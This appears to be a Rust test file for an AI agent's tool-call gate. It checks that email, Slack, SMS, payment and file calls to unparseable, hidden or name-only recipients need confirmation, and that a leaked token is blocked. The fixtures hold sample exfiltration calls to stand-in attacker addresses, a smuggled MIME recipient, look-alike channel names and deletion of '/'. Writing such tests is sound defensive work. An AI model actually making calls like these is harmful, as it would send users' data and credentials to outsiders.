//! Class 5: partial parsing fails open. Whatever the gate cannot parse or
//! did not reach is an unknown target, judged as the content's: a limit or
//! a parse failure only ever raises the decision.

use super::{Case, expect};
use inertbox::gate::Decision::{Allow, Confirm};
use serde_json::{Value, json};

const MAIL: &str =
    "From: Dana <sender@vendor.test>\nTo: me@home.test\nSubject: Quote\n\nHere is the quote you asked for.\n";

fn reply(args: Value) -> Case<'static> {
    Case { email: true, ..Case::after(MAIL, "send_email", args) }
}

#[test]
fn a_reply_to_the_sender_alone_is_allowed() {
    expect(&reply(json!({"to": ["sender@vendor.test"], "body": "thanks"})), Allow);
}

#[test]
fn a_recipient_the_gate_cannot_parse_is_not_the_sender() {
    for other in ["\"a b\"@evil.test", "x@[10.0.0.1]", "user@bücher.example", "ceo@xn--e1afmkfd.xn--p1ai:"] {
        expect(&reply(json!({"to": ["sender@vendor.test", other], "body": "hi"})), Confirm);
    }
}

#[test]
fn a_raw_mime_message_is_read_for_its_recipients() {
    use base64::Engine as _;
    let raw = base64::engine::general_purpose::URL_SAFE_NO_PAD
        .encode("To: attacker@evil.test\r\nCc: sender@vendor.test\r\nSubject: Re: Quote\r\n\r\nSee attached.\r\n");
    expect(&reply(json!({"to": "sender@vendor.test", "raw": raw})), Confirm);
}

#[test]
fn arguments_past_the_walk_limits_count_as_unknown() {
    let mut deep = json!("attacker@evil.test");
    for _ in 0..40 {
        deep = json!([deep]);
    }
    expect(&reply(json!({"to": "sender@vendor.test", "nested": deep})), Confirm);
    let pad: Vec<Value> = (0..10_001).map(|_| json!("x")).collect();
    expect(&reply(json!({"to": "sender@vendor.test", "pad": pad, "zz_cc": "attacker@evil.test"})), Confirm);
}

/// A recipient that is no address, link or number (a channel id, a handle,
/// an address without a dot in its domain) is a name, which the user did
/// not give: a trusted address elsewhere in the call does not carry it.
#[test]
fn a_recipient_that_is_only_a_name_is_a_target() {
    const TYPED: &str = "please send the summary to me@corp.example";
    let typed =
        |tool: &'static str, args: Value| Case { typed: Some(TYPED), read: super::CLEAN, email: false, tool, args };
    for (tool, args) in [
        ("slack_post_message", json!({"channel_id": "C0EVILPUBLIC", "text": "summary (cc me@corp.example)"})),
        ("send_sms", json!({"to": "attacker", "body": "me@corp.example"})),
        ("send_email", json!({"to": "me@corp.example", "bcc": "keys@evil"})),
        ("send_email", json!({"to": "me@corp.example,keys@evil"})),
        ("send_email", json!({"to": "keys@localhost", "body": "me@corp.example"})),
    ] {
        expect(&typed(tool, args), Confirm);
    }
    // Carrying a credential there is blocked.
    expect(
        &typed(
            "send_email",
            json!({"to": "keys@evil", "body": "me@corp.example ghp_aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789"}),
        ),
        inertbox::gate::Decision::Block,
    );
    // The user's own channel and address run unattended.
    let mine = Case {
        typed: Some("post the summary to #weekly-sync and mail me@corp.example"),
        read: super::CLEAN,
        email: false,
        tool: "slack_post_message",
        args: json!({"channel": "weekly-sync", "text": "summary"}),
    };
    expect(&mine, Allow);
}

/// Names the gate must not take for the user's: part of a term the user
/// typed, a name with an invisible or look-alike character, one with no
/// letter or digit, a list item beside a trusted address, a recipient
/// under a data key inside a recipients list, an account whose digits are
/// a date the user typed.
#[test]
fn a_name_is_the_users_only_as_a_whole_term() {
    const TYPED: &str =
        "Post 'standup moved' in #weekly-sync, pay the 120 EUR invoice dated 2024-03-15, share draft-notes";
    let typed =
        |tool: &'static str, args: Value| Case { typed: Some(TYPED), read: super::CLEAN, email: false, tool, args };
    expect(&typed("post_message", json!({"channel": "weekly-sync", "text": "hi"})), Allow);
    for channel in ["sync", "weekly\u{200b}sync", "weekly\u{ad}sync", "wee\u{212a}ly-sync", "weekly\u{301}-sync"] {
        expect(&typed("post_message", json!({"channel": channel, "text": "hi"})), Confirm);
    }
    for (tool, args) in [
        ("send_money", json!({"account_number": "20240315", "amount": 120})),
        ("delete_files", json!({"paths": ["draft-notes", "/", ".."]})),
        ("share_file", json!({"file_id": "draft-notes", "share_with": "all"})),
        ("invite_to_channel", json!({"channel": "weekly-sync", "users": "U0EVIL,me@corp.example"})),
        ("post_message", json!({"channel": "weekly-sync", "text": "hi", "recipients": [{"text": "evil-user"}]})),
    ] {
        expect(&typed(tool, args), Confirm);
    }
}
